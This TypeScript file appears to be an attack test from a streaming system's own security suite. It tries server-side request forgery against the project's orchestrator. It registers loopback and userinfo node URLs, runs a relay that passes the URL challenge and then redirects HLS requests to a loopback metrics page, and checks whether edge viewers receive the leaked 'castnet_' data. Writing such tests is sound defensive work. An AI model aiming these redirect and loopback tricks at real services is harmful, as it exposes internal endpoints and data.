// Attack: make nodes fetch what they must not (SSRF) and hand it back, from its own process and address.
// Registers node URLs that point into the orchestrator's loopback pages (`…/metrics#`, a path, userinfo);
// runs a relay of its own that proves its URL honestly and then answers every HLS request with a redirect
// to a loopback-only page, claims a stream and asks an edge relay for it as a viewer; answers a URL
// challenge with a redirect to an honest node; and, at an orchestrator that does not allow private nodes,
// registers a loopback literal and a name that resolves to loopback.

import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { randomIdentity, type Identity } from '../../../protocol/identity.ts';
import { OrchestratorClient } from '../../../protocol/orchestrator-client.ts';
import { signRequest } from '../../../protocol/signed-request.ts';
import { URL_CHALLENGE_PATH, answerChallenge } from '../../../protocol/url-challenge.ts';
import { ATTACKER_ADDRESS, attackArgs, attackerFetch, attempt, finish, rawRequest } from '../../support/attacker.ts';

const args = attackArgs<{ orchestrator: string; strictOrchestrator: string; edge: string; honestRelay: string; loopbackPage: string }>();
const key = () => randomIdentity();
const client = (base: string, identity: Identity = key()) => new OrchestratorClient(base, { identity, fetch: attackerFetch });
const json = (value: unknown) => new TextEncoder().encode(JSON.stringify(value));

/** A registration sent as raw bytes: the client would refuse to send these URLs at all. */
function registerRaw(base: string, url: string) {
  const body = json({ role: 'relay', url, streams: ['bait'] });
  return rawRequest(`${base}/api/nodes`, { method: 'POST', headers: { 'content-type': 'application/json', ...signRequest(key(), { method: 'POST', path: '/api/nodes', body, timestamp: Date.now() }) }, body });
}

/** Polls the node list until `id`'s state is one of `states`; answers the listing. */
async function stateOf(base: string, id: string, states: string[]): Promise<{ state: string; stateReason: string | null }> {
  const deadline = Date.now() + 15_000;
  for (;;) {
    const listed = (await client(base).nodes()).find((n) => n.id === id);
    if (listed && states.includes(listed.state)) return listed;
    if (Date.now() > deadline) return listed ?? { state: 'missing', stateReason: null };
    await new Promise((r) => setTimeout(r, 100));
  }
}

async function listen(handler: Parameters<typeof createServer>[1]): Promise<{ url: string; close(): void }> {
  const server = createServer(handler);
  await new Promise<void>((r) => server.listen(0, ATTACKER_ADDRESS, r));
  return { url: `http://${ATTACKER_ADDRESS}:${(server.address() as AddressInfo).port}`, close: () => server.close() };
}

await attempt('metrics-fragment', () => registerRaw(args.orchestrator, `${args.loopbackPage}#`));
await attempt('metrics-path', () => registerRaw(args.orchestrator, args.loopbackPage));
await attempt('userinfo', () => registerRaw(args.orchestrator, `http://attacker:secret@${new URL(args.orchestrator).host}`));

// A relay that proves its URL (its key answers there), then redirects every HLS request into loopback.
const relayKey = key();
const relay = await listen((req, res) => {
  if (req.url?.startsWith(URL_CHALLENGE_PATH)) return res.end(JSON.stringify(answerChallenge(new URL(req.url, 'http://x').searchParams.get('nonce') ?? '', relayKey)));
  res.writeHead(302, { location: args.loopbackPage }).end();
});
const relayClient = client(args.orchestrator, relayKey);
const heartbeat = setInterval(() => void relayClient.heartbeat(relayKey.address, { sessions: 0, inFlight: 0 }).catch(() => {}), 500);
await attempt('redirecting-relay', async () => {
  await relayClient.register({ role: 'relay', url: relay.url, streams: ['bait'] });
  return stateOf(args.orchestrator, relayKey.address, ['active', 'unproven']);
});
await attempt('bait-session', async () => ({ relay: (await client(args.orchestrator).openSession({ playbackId: 'bait', startedAt: new Date().toISOString(), preferRelay: relay.url })).relay.url }));
// As a viewer of the edge: what the edge fetched from the "parent" is what the viewer would get.
await attempt('viewer-master', async () => {
  const got = await rawRequest(`${args.edge}/hls/bait/master.m3u8`);
  return { ...got, leaked: String(got.body ?? '').includes('castnet_') };
});
await attempt('viewer-segment', async () => {
  const got = await rawRequest(`${args.edge}/hls/bait/source/0.ts`);
  return { ...got, leaked: String(got.body ?? '').includes('castnet_') };
});
clearInterval(heartbeat);

// A URL whose challenge answer is a redirect to an honest node (whose key would sign it).
const redirecting = await listen((req, res) => res.writeHead(307, { location: `${args.honestRelay}${req.url}` }).end());
await attempt('challenge-redirect', async () => {
  const identity = key();
  await client(args.orchestrator, identity).register({ role: 'relay', url: redirecting.url });
  return stateOf(args.orchestrator, identity.address, ['unproven', 'active']);
});

// An orchestrator that allows no private nodes: a loopback literal, and a name that resolves to loopback.
await attempt('private-literal', async () => {
  await client(args.strictOrchestrator).register({ role: 'relay', url: relay.url });
});
await attempt('private-name', async () => {
  const identity = key();
  await client(args.strictOrchestrator, identity).register({ role: 'relay', url: `http://localhost:${new URL(relay.url).port}` });
  return stateOf(args.strictOrchestrator, identity.address, ['unproven', 'active']);
});

relay.close();
redirecting.close();
finish({ relay: relayKey.address });
